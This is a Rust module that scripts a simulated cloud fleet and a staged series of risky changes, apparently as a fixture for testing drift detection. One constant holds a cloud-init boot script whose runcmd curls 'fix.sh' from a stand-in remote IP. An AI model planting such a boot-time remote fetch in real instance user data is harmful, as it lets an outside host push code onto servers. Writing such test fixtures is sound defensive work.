//! The demo's story: a clean fleet over two accounts and two regions, then one bad morning.

use std::time::Duration;

use super::actor::SimActor;
use super::clock::VirtualClock;
use super::cloud::FakeCloud;
use super::error::SimError;
use super::fleet::{FleetBuilder, SimFleet};
use super::mutate::CommandTarget;
use crate::types::{ImageId, InstanceId, Place, Region, SecurityGroupId};

/// Members of each Auto Scaling group; with three standalone servers that makes 44 in four places.
const GROUP_SIZE: usize = 8;
/// Standalone servers of each place.
const STANDALONE: usize = 3;
/// The package that alice upgrades, its golden version and the new one.
const UPGRADE: (&str, &str, &str) = ("openssl-libs", "3.2.2", "3.2.4");
/// The boot script that dave leaves behind.
const EDITED_USER_DATA: &[u8] = b"#cloud-config\nhostname: web\nruncmd: [curl -s http://203.0.113.66/fix.sh]\n";

/// Which server plays which part, known before anything happens.
#[derive(Clone, Debug)]
pub struct DemoFacts {
    /// The account-regions.
    pub places: Vec<Place>,
    /// AMI of `web@1` in each region.
    pub images: Vec<(Region, ImageId)>,
    /// The pristine reference server; it has no `app` tag.
    pub reference: InstanceId,
    /// All members of the fleet at the start: those with the tag `app` = `web`.
    pub members: Vec<InstanceId>,
    /// Gets an SSM session of [`alice`](Self::alice) and another version of [`package`](Self::package).
    pub upgraded: InstanceId,
    /// The package, its golden version and the new one.
    pub package: (&'static str, &'static str, &'static str),
    /// Gets an SSH key pushed by the IAM user `bob`; nothing on it changes.
    pub ssh_key: InstanceId,
    /// Gets other security groups from the role session `carol` of `ops-admin`.
    pub regrouped: InstanceId,
    /// The group it ends up with.
    pub debug_group: SecurityGroupId,
    /// Is stopped, gets other user data from [`dave`](Self::dave) and is started again.
    pub edited: InstanceId,
    /// Was never a managed node.
    pub unmanaged: InstanceId,
    /// The IAM user `intern` fails to change its security groups.
    pub attempted: InstanceId,
    /// Where Auto Scaling launches a clean new member, and in which group.
    pub scaled: (Place, String),
    /// The person who opens the session, from 198.51.100.7.
    pub alice: &'static str,
    /// The person who edits user data, in the console.
    pub dave: &'static str,
}

/// What came into being during the story.
#[derive(Clone, Debug)]
pub struct Mischief {
    /// The member that Auto Scaling launched.
    pub launched: InstanceId,
    /// Alice's SSM session id.
    pub session: String,
}

/// The clean fleet: 44 members of `web@1` in two accounts and two regions, and a reference server in each place.
/// Deterministic: a second process builds the same ids.
///
/// # Errors
/// Never in practice: all accounts are simulated ones.
pub fn demo_scenario() -> Result<(FakeCloud, VirtualClock, DemoFacts), SimError> {
    let fleet = FleetBuilder::new("web")
        .seed(2026)
        .place("000000000000", "eu-west-1")
        .place("000000000000", "eu-central-1")
        .place("000000000001", "eu-west-1")
        .place("000000000001", "eu-central-1")
        .standalone(STANDALONE)
        .group(GROUP_SIZE)
        .packages(420)
        .build()?;
    let facts = cast(&fleet)?;
    fleet.cloud.unmanage(&facts.unmanaged)?;
    Ok((fleet.cloud, fleet.clock, facts))
}

/// The bad morning. It takes about 40 virtual minutes; at its end everything has been delivered and reported.
///
/// # Errors
/// Never in practice, when given the cloud and the facts of one [`demo_scenario`].
pub fn mischief(cloud: &FakeCloud, facts: &DemoFacts) -> Result<Mischief, SimError> {
    chatter(cloud, facts)?;
    let session = session_and_upgrade(cloud, facts)?;
    wait(cloud, 180);
    cloud.push_ssh_key(&SimActor::iam_user("bob").from_ip("203.0.113.20"), &facts.ssh_key, "ec2-user")?;
    wait(cloud, 240);
    let carol = SimActor::role("ops-admin", "carol").from_ip("198.51.100.31");
    cloud.modify_security_groups(&carol, &facts.regrouped, std::slice::from_ref(&facts.debug_group))?;
    wait(cloud, 120);
    cloud.modify_user_data(&SimActor::person(facts.dave).from_console(), &facts.edited, EDITED_USER_DATA)?;
    wait(cloud, 60);
    let launched = noise(cloud, facts)?;
    wait(cloud, 300);
    cloud.run_inventory_all()?;
    wait(cloud, 600);
    Ok(Mischief { launched, session })
}

fn cast(fleet: &SimFleet) -> Result<DemoFacts, SimError> {
    let places = fleet.cloud.places();
    // Places come sorted: account 0 central and west, then account 1.
    let place = |index: usize| places.get(index).ok_or_else(|| SimError::missing("demo place"));
    let alone = |at: usize, index: usize| pick(fleet.standalone.get(place(at)?), index);
    let member = |at: usize, index: usize| {
        pick(fleet.groups.get(place(at)?).and_then(|groups| groups.first()).map(|group| &group.members), index)
    };
    let scaled = place(1)?.clone();
    let groups = fleet.groups.get(&scaled).and_then(|groups| groups.first());
    let group = groups.map(|group| group.name.clone()).ok_or_else(|| SimError::missing("demo group"))?;
    Ok(DemoFacts {
        images: fleet.images.iter().map(|(region, image)| (region.clone(), image.clone())).collect(),
        reference: fleet.reference.clone(),
        members: fleet.instances(),
        upgraded: member(1, 2)?,
        package: UPGRADE,
        ssh_key: member(0, 4)?,
        // In the reference's region, whose groups the golden knows.
        regrouped: alone(1, 0)?,
        debug_group: SimFleet::security_group(&scaled.region, "debug-open"),
        edited: alone(3, 1)?,
        unmanaged: member(2, 5)?,
        attempted: alone(1, 2)?,
        scaled: (scaled, group),
        alice: "alice@example.com",
        dave: "dave@example.com",
        places,
    })
}

fn pick(list: Option<&Vec<InstanceId>>, index: usize) -> Result<InstanceId, SimError> {
    list.and_then(|list| list.get(index)).cloned().ok_or_else(|| SimError::missing("demo instance"))
}

/// What goes on all the time: monitoring reads, and some servers report what they always report.
fn chatter(cloud: &FakeCloud, facts: &DemoFacts) -> Result<(), SimError> {
    wait(cloud, 600);
    let monitor = SimActor::role("monitoring", "poller").with_user_agent("Boto3/1.40.2 Python/3.13");
    for place in &facts.places {
        cloud.read_only_call(&monitor, place, "ec2", "DescribeInstances")?;
        cloud.read_only_call(&monitor, place, "ssm", "DescribeInstanceInformation")?;
    }
    facts.members.iter().step_by(5).try_for_each(|member| cloud.run_inventory(member))?;
    wait(cloud, 120);
    Ok(())
}

fn session_and_upgrade(cloud: &FakeCloud, facts: &DemoFacts) -> Result<String, SimError> {
    let alice = SimActor::person(facts.alice).from_ip("198.51.100.7");
    let session = cloud.start_session(&alice, &facts.upgraded)?;
    wait(cloud, 200);
    cloud.upgrade_package(&facts.upgraded, facts.package.0, facts.package.2)?;
    cloud.terminate_session(&alice, &cloud.place_of(&facts.upgraded)?, &session)?;
    Ok(session)
}

/// What must not be taken for drift: a refused call, a dry run, and an Auto Scaling launch.
fn noise(cloud: &FakeCloud, facts: &DemoFacts) -> Result<InstanceId, SimError> {
    let intern = SimActor::iam_user("intern").from_ip("203.0.113.99");
    cloud.failed_call(&intern, &facts.attempted, "ec2", "ModifyInstanceAttribute", "Client.UnauthorizedOperation")?;
    cloud.dry_run(&intern, &facts.attempted, "TerminateInstances")?;
    wait(cloud, 90);
    cloud.asg_launch(&facts.scaled.0, &facts.scaled.1)
}

/// A further turn that the demo leaves out by default: somebody runs a command on every server with the tag.
///
/// # Errors
/// Never in practice, when given the cloud and the facts of one [`demo_scenario`].
pub fn command_everywhere(cloud: &FakeCloud, facts: &DemoFacts) -> Result<(), SimError> {
    let target = CommandTarget::Tag("app".to_owned(), "web".to_owned());
    let carol = SimActor::role("ops-admin", "carol").from_ip("198.51.100.31");
    for place in &facts.places {
        cloud.send_command(&carol, place, "AWS-RunShellScript", &target)?;
    }
    wait(cloud, 600);
    Ok(())
}

/// Spreads this many modifications of five kinds evenly over a fleet, for benchmarks; returns the servers that
/// were modified. Every record is delivered and every changed package reported when it returns. Members whose
/// user data is edited are restarted on the way.
///
/// # Errors
/// Never in practice, when the fleet is as it was built.
pub fn scatter(fleet: &SimFleet, changes: usize) -> Result<Vec<InstanceId>, SimError> {
    let (cloud, members) = (&fleet.cloud, fleet.instances());
    let step = (members.len() / changes.max(1)).max(1);
    let chosen: Vec<InstanceId> = members.into_iter().step_by(step).take(changes).collect();
    let carol = SimActor::role("ops-admin", "carol");
    for (index, instance) in chosen.iter().enumerate() {
        match index % 5 {
            0 => {
                cloud.start_session(&carol, instance)?;
                cloud.upgrade_package(instance, UPGRADE.0, UPGRADE.2)?;
                cloud.run_inventory(instance)?;
            }
            1 => drop(cloud.push_ssh_key(&carol, instance, "ec2-user")?),
            2 => {
                let debug = SimFleet::security_group(&cloud.place_of(instance)?.region, "debug-open");
                cloud.modify_security_groups(&carol, instance, &[debug])?;
            }
            3 => cloud.modify_user_data(&carol, instance, EDITED_USER_DATA)?,
            _ => drop(cloud.attach_volume(&carol, instance, "/dev/sdf", 100)?),
        }
    }
    wait(cloud, 600);
    Ok(chosen)
}

fn wait(cloud: &FakeCloud, seconds: u64) {
    cloud.clock().advance(Duration::from_secs(seconds));
}
